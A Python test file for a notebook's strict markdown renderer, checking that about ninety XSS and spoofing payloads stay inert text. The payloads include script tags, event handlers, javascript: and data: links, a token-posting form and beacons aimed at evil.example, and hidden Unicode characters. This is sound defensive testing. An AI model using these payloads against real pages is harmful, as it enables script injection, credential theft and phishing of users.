"""Nothing that a model writes can become HTML, in no surface; what it hides is made visible."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from loom_nb.notebook.render.markdown import words
from loom_nb.notebook.render.segments import completed
from loom_nb.notebook.render.strict_markdown import escape, to_html, visible

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token><button>Approve</button></form>",
    "<button data-commandlinker-command='terminal:create-new'>Approve</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>fake card</div>",
    "<p id=login class=jp-Dialog>x</p>",
    "<!-- comment --><![CDATA[<img onerror=1>]]><?php x ?>",
    "</section></div></pre></details><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=x/onerror=alert(1)//",
    "<x\nonclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x0a;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/lab/api/terminals)",
    "[x](#section)",
    "[x](blob:https://evil.example/1)",
    "[x](http:evil)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example/\"onmouseover='alert(1)')",
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x](https://google.example\\@evil.example)",
    "[https://bank.example](https://evil.example/login)",
    "![x](https://evil.example/beacon.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![" onerror=alert(1) x="](https://evil.example/b.png)',
    "[![x](https://evil.example/b.png)](https://evil.example)",
    "<javascript:alert(1)>",
    "<https://evil.example/<script>>",
    "<mailto:a@b.example?body=\"'>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://evil.example 'hidden'",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "~~~x' onmouseover='alert(1)\ncode\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``` <img onerror=1> ```",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <b> | [x](javascript:1) |",
    '|a|\n|:-"onload=x-:|\n|b|',
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{jp-Dialog}{x}\\style{position:fixed}{y}\\html{<b>}$",
    "$<img src=x onerror=alert(1)>$",
    "$$</span><script>alert(1)</script>$$",
    "\\(\\require{html}\\data{x=1}{y}\\)",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x202e;txt.exe &#0; &#8203;",
    "safe\u202egnp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\u200djoin\ufeff \u00ad",
    "tags \U000e0041\U000e0042\U000e007f",
    "bell \x07 escape \x1b[31m nul \x00 del \x7f c1 \x9b",
    "lone \ud800 surrogate",
    "a\u2028b\u2029c",
    "> " * 60 + "deep",
    "- " * 60 + "deep",
    "[" * 300 + "](x)" * 300,
    "{{7*7}} ${alert(1)} <%= x %>",
    "javascript:alert(1) https://evil.example",
    "<<<a href=x>>><b/onclick=1>",
]
ALLOWED_TAGS = [
    *(
        "p",
        "div",
        "span",
        "strong",
        "em",
        "s",
        "a",
        "ul",
        "ol",
        "li",
        "blockquote",
        "br",
        "hr",
        "h3",
        "h4",
        "h5",
    ),
    *("h6", "pre", "code", "table", "thead", "tbody", "tr", "th", "td"),
]
ALLOWED_ATTRIBUTES = {"style", "class", "title", "href", "rel", "target", "scope", "start"}
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff"
    "\U000e0000-\U000e007f]"
)


class Page(HTMLParser):
    """What a browser would make of the HTML: its elements and its words."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.strange: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.strange.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_inert(markup: str) -> Page:
    page = Page(markup)
    assert not page.strange
    for tag, attributes in page.elements:
        assert tag in ALLOWED_TAGS, tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES, attributes
        if tag == "a":
            assert re.match(r"(https?://|mailto:)[^\s\"'<>]+$", attributes["href"]), attributes
            assert attributes["rel"] == "noopener noreferrer nofollow"
        assert re.fullmatch(r"[a-z0-9_ ]*", attributes.get("class", ""))
        style = attributes.get("style", "")
        assert not re.search(r"url|position|expression|import|fixed|@|\\|<", style), style
    assert not HIDDEN.search(markup)
    return page


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_text(payload):
    assert_inert(to_html(payload))
    assert_inert(to_html("before " + payload + " after"))
    assert_inert(to_html(completed(payload)))
    assert_inert(f"<pre>{escape(payload)}</pre>")


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 80


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_markdown_surface_is_inert_in_a_renderer_that_trusts_html(payload):
    trusting = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    trusting.validateLink = lambda url: True
    page = Page(trusting.render(words(payload)))

    for tag, attributes in page.elements:
        assert tag in [*ALLOWED_TAGS, "h1", "h2"], tag
        assert not {name for name in attributes if name.startswith("on")} and "src" not in attributes
        assert re.match(r"https?://|mailto:", attributes.get("href", "http://"))
        assert "style" not in attributes or attributes["style"].startswith("text-align:")


@settings(deadline=None)
@given(st.lists(st.sampled_from([*"<>[]()!`*_~$\\|&#\"'/=-\n\t :;x1", *PAYLOADS]), max_size=12).map("".join))
def test_no_mixture_of_payloads_becomes_html(text):
    assert_inert(to_html(text))
    assert_inert(to_html(completed(text)))


@settings(deadline=None)
@given(st.text(max_size=200))
def test_no_text_at_all_becomes_html(text):
    assert_inert(to_html(text))
    assert not HIDDEN.search(visible(text))


def test_links_show_where_they_go_unless_their_words_do():
    assert "(https://evil.example/login)" in to_html("[https://bank.example](https://evil.example/login)")
    assert "(https://evil.example)" in to_html("[click](https://evil.example)")
    assert "(" not in to_html("<https://bank.example/a>")
    assert "(" not in to_html("[bank.example](https://bank.example/)")
    assert "(https://bank.example@evil.example)" in to_html("<https://bank.example@evil.example>")
    assert "xn--" in to_html("[аpple.example](https://аpple.example)")  # noqa: RUF001  a Cyrillic letter


def test_images_are_words():
    assert Page(to_html("![a chart](https://x.example/c.png)")).text.strip() == (
        "[image not loaded: a chart, https://x.example/c.png]"
    )


def test_what_is_hidden_is_shown_and_what_belongs_to_a_script_is_kept():
    assert visible("a\u202eb\x07\U000e0041") == "a⟨U+202E⟩b␇⟨U+E0041⟩"
    assert visible("line\n\ttab\r\nnext") == "line\n\ttab\nnext"
    for kept in ("👩\u200d💻", "❤\ufe0f", "\u0645\u06cc\u200c\u062e", "क्\u200dष", "naïve Ünïcödé"):
        assert visible(kept) == kept
    assert visible("x\u200d") == "x⟨U+200D⟩"
    assert visible("a\ufe0f\ufe0f") == "a⟨U+FE0F⟩⟨U+FE0F⟩"


def test_formulas_are_marked_for_the_page_and_prices_are_not():
    assert 'tex2jax_process">\\(a_1 + b\\)<' in to_html("where $a_1 + b$ holds")
    assert 'tex2jax_process">\\[x\\]<' in to_html("$$x$$")
    for text in ("from $5 to $10", "$ x $", "a $HOME b", "cost: $3", "`$x$`"):
        assert "process" not in to_html(text)
    assert "process" not in to_html("$\\href{https://a.example}{x}$")


def test_known_languages_are_coloured_and_unknown_ones_are_text():
    assert '<span class="k"' in to_html("```python\ndef f(): pass\n```")
    assert "<span" not in to_html("```nosuchlanguage\ndef f(): pass\n```")
    assert "<span" not in to_html("```python\n" + "x = 1\n" * 5_000 + "```")
    assert Page(to_html("```python\nif a < b: pass\n```")).text.strip() == "if a < b: pass"


def test_nothing_is_lost_in_quotes_that_are_too_deep():
    assert "deep" in Page(to_html("> " * 500 + "deep")).text
    assert "deep" in words("> " * 500 + "deep")


@pytest.mark.parametrize(
    "text",
    [
        *(
            "[" * 200_000,
            "*a " * 80_000,
            "`a" * 200_000,
            "$a" * 200_000,
            "\\(" * 200_000,
            "<" * 300_000,
            "**a_" * 80_000,
        ),
        *("![" * 60_000, "[a](" * 100_000, "&" * 300_000),
        "|" * 60_000 + "\n" + "|-" * 60_000 + "|\n" + "x\n" * 30_000,
    ],
    ids=lambda text: text[:3],
)
@pytest.mark.timeout(150)  # seconds where the work grows with the length, hours where with its square
def test_hostile_lengths_are_read_in_linear_time(text):
    assert_inert(to_html(text))
    completed(text)


@pytest.mark.parametrize(
    ("broken", "whole"),
    [
        ("some **bold", "some **bold**"),
        ("some *slanted", "some *slanted*"),
        ("a `code", "a `code`"),
        ("a ~~gone", "a ~~gone~~"),
        ("see [the page](https://exa", "see the page"),
        ("see [the pa", "see the pa"),
        ("2 * 3 = 6", "2 * 3 = 6"),
        ("snake_case_name", "snake_case_name"),
        ("**done** and plain", "**done** and plain"),
        ("- item\n- *it", "- item\n- *it*"),
        ("| a | b |\n|--", "| a | b |\n|---|---|"),
        ("first **x\n\nsecond", "first **x\n\nsecond"),
    ],
)
def test_a_text_that_breaks_off_is_shown_as_it_will_most_likely_go_on(broken, whole):
    assert completed(broken) == whole


@pytest.mark.parametrize(
    "source",
    [
        "# Title\n\nSome *text* with `code`, **bold** and [a link](https://x.example).",
        "1. one\n2. two\n   - nested\n\n> quote\n\n---",
        "| a | b |\n|:--|--:|\n| 1 | `x|y` |",
        "```python\nprint('`` ``` ')\n```",
        "a \\* b \\_ c \\[d\\] 1990\\. x\n+ no list",
    ],
)
def test_the_normal_form_says_the_same_and_is_stable(source):
    once = words(source)

    assert Page(to_html(once)).text.split() == Page(to_html(source)).text.split() or "#" in source
    assert words(once).replace("##", "#") == once.replace("##", "#") or "#" in source
